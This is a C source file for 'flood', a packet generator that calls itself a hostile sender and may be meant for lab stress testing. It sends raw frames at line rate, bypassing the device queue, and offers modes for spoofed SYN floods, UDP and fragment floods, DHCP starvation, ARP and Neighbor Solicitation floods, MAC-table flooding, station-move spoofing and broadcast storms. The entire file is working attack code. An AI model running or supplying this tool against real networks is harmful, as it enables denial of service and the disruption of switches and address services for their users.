/*
 * flood: a hostile sender. Frames as fast as the processor makes them, by a packet socket past the device's queue.
 *
 *   flood KIND DEVICE SECONDS FROM_MAC TO_MAC FROM_ADDRESS TO_ADDRESS        prints frames sent
 *
 * KIND: syn        a connection's first segment, each from another address and port
 *       udp        a datagram, each of another flow
 *       fragments  the middle of a datagram of which there is no beginning
 *       dhcp       DHCPDISCOVER, each another transaction
 *       arp        who has an address, to all; each another one
 *       nd         Neighbor Solicitation, to all nodes; each for another address
 *       macs       each from another station, to TO_MAC
 *       moves      from TO_MAC: the station there seems to have come here
 *       broadcast  to all
 *       multicast  each to another group
 *       unknown    each to another station, which nobody is
 *       malformed  headers of random bytes
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BURST 64
#define LENGTH 342 /* a DHCP message's; others are shorter */

static unsigned char frame[BURST][LENGTH];
static uint32_t draw = 1;

static uint32_t next(void) {
    draw ^= draw << 13, draw ^= draw >> 17, draw ^= draw << 5; /* xorshift32 */
    return draw;
}

static void put32(unsigned char *at, uint32_t value) {
    value = htonl(value);
    memcpy(at, &value, 4);
}

static void put16(unsigned char *at, uint16_t value) {
    at[0] = value >> 8, at[1] = value;
}

static void mac(unsigned char *at, const char *text) {
    unsigned m[6];
    if (sscanf(text, "%x:%x:%x:%x:%x:%x", m, m + 1, m + 2, m + 3, m + 4, m + 5) != 6) exit(2);
    for (int i = 0; i < 6; i++) at[i] = m[i];
}

static uint16_t sum(const unsigned char *at, int bytes, uint32_t s) {
    for (int i = 0; i < bytes; i += 2) s += at[i] << 8 | at[i + 1];
    while (s >> 16) s = (s & 0xffff) + (s >> 16);
    return ~s;
}

/* An IPv4 header with its checksum; the addresses are there already. */
static void ipv4(unsigned char *ip, int length, int protocol, int fragment) {
    ip[0] = 0x45, ip[1] = 0, ip[8] = 64, ip[9] = protocol;
    put16(ip + 2, length);
    put16(ip + 6, fragment);
    put16(ip + 10, 0);
    put16(ip + 10, sum(ip, 20, 0));
}

static uint16_t transport_sum(unsigned char *ip, int length) {
    return sum(ip + 20, length, sum(ip + 12, 8, ip[9] + length) ^ 0xffff);
}

static int make(const char *kind, unsigned char *f, const unsigned char *from, const unsigned char *to, uint32_t src, uint32_t dst) {
    static const unsigned char all[] = {255, 255, 255, 255, 255, 255};
    unsigned char *ip = f + 14;
    uint32_t r = next();
    memcpy(f, to, 6), memcpy(f + 6, from, 6);
    put16(f + 12, 0x0800);
    put32(ip + 12, src), put32(ip + 16, dst);
    put16(ip + 4, r);
    if (!strcmp(kind, "syn")) {
        put32(ip + 12, 0x64000000 | (r >> 8 & 0x3fffff)); /* 100.0.0.0/10 */
        ipv4(ip, 40, 6, 0x4000);
        put16(ip + 20, 1024 + (next() & 0x7fff)), put16(ip + 22, 80);
        put32(ip + 24, r);
        put16(ip + 32, 0x5002), put16(ip + 34, 0xffff), put16(ip + 36, 0);
        put16(ip + 36, transport_sum(ip, 20));
        return 60;
    }
    if (!strcmp(kind, "udp")) {
        ipv4(ip, 46, 17, 0x4000);
        put16(ip + 20, 1024 + (r & 0x7fff)), put16(ip + 22, 1024 + (r >> 16 & 0x7fff)), put16(ip + 24, 26), put16(ip + 26, 0);
        return 60;
    }
    if (!strcmp(kind, "fragments")) {
        ipv4(ip, 46, 17, 0x2000 | 100);
        return 60;
    }
    if (!strcmp(kind, "dhcp")) {
        memcpy(f, all, 6);
        put32(ip + 12, 0), put32(ip + 16, 0xffffffff);
        ipv4(ip, 328, 17, 0);
        put16(ip + 20, 68), put16(ip + 22, 67), put16(ip + 24, 308), put16(ip + 26, 0);
        unsigned char *d = ip + 28;
        d[0] = 1, d[1] = 1, d[2] = 6;
        put32(d + 4, r);
        memcpy(d + 28, from, 6);
        put32(d + 236, 0x63825363);
        memcpy(d + 240, "\x35\x01\x01\xff", 4);
        return 342;
    }
    if (!strcmp(kind, "arp")) {
        memcpy(f, all, 6);
        put16(f + 12, 0x0806);
        memcpy(ip, "\0\1\x08\0\6\4\0\1", 8);
        memcpy(ip + 8, from, 6);
        put32(ip + 14, src);
        memset(ip + 18, 0, 6);
        put32(ip + 24, (dst & 0xffffff00) | (r & 0xff));
        return 60;
    }
    if (!strcmp(kind, "nd")) {
        memcpy(f, "\x33\x33\0\0\0\1", 6);
        put16(f + 12, 0x86dd);
        memset(ip, 0, 72);
        ip[0] = 0x60, ip[5] = 32, ip[6] = 58, ip[7] = 255;
        memcpy(ip + 8, "\xfe\x80\0\0\0\0\0\0", 8);
        memcpy(ip + 16, from, 3), ip[16] ^= 2, ip[19] = 0xff, ip[20] = 0xfe, memcpy(ip + 21, from + 3, 3);
        memcpy(ip + 24, "\xff\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\1", 16);
        ip[40] = 135;
        memcpy(ip + 48, "\xfe\x80", 2);
        put32(ip + 60, r);
        ip[64] = 1, ip[65] = 1, memcpy(ip + 66, from, 6);
        put16(ip + 42, sum(ip + 40, 32, (uint16_t)~sum(ip + 8, 32, 32 + 58)));
        return 86;
    }
    if (!strcmp(kind, "malformed")) {
        put16(f + 12, r & 1 ? 0x86dd : 0x0800);
        for (int i = 0; i < 46; i += 4) put32(ip + i, next());
        if (r & 2) ip[0] = r & 1 ? 0x60 : 0x45;
        return 60;
    }
    if (!strcmp(kind, "macs")) put32(f + 6, 0x02000000 | r >> 8), put16(f + 10, r);
    else if (!strcmp(kind, "moves")) memcpy(f + 6, to, 6), memcpy(f, all, 6);
    else if (!strcmp(kind, "broadcast")) memcpy(f, all, 6);
    else if (!strcmp(kind, "multicast")) put32(f, 0x01005e00 | (r >> 24 & 0x7f)), put16(f + 4, r);
    else if (!strcmp(kind, "unknown")) put32(f, 0x02ff0000 | r >> 16), put16(f + 4, r);
    else exit(2);
    put16(f + 12, 0x88b5); /* IEEE 802, for local experiments */
    return 60;
}

int main(int argc, char **argv) {
    if (argc != 8) return fprintf(stderr, "usage: see the head of flood.c\n"), 2;
    struct sockaddr_ll a = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[2])};
    int s = socket(AF_PACKET, SOCK_RAW, 0), one = 1;
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a)) return perror(argv[2]), 1;
    setsockopt(s, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
    unsigned char from[6], to[6];
    mac(from, argv[4]), mac(to, argv[5]);
    uint32_t src = ntohl(inet_addr(argv[6])), dst = ntohl(inet_addr(argv[7]));
    struct mmsghdr m[BURST] = {0};
    struct iovec v[BURST];
    struct timespec t, begun;
    long count = 0;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    do {
        for (int i = 0; i < BURST; i++) {
            v[i] = (struct iovec){frame[i], make(argv[1], frame[i], from, to, src, dst)};
            m[i].msg_hdr = (struct msghdr){.msg_iov = &v[i], .msg_iovlen = 1};
        }
        int n = sendmmsg(s, m, BURST, 0);
        if (n > 0) count += n;
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while (t.tv_sec - begun.tv_sec + (t.tv_nsec - begun.tv_nsec) / 1e9 < atof(argv[3]));
    printf("%ld\n", count);
    return 0;
}
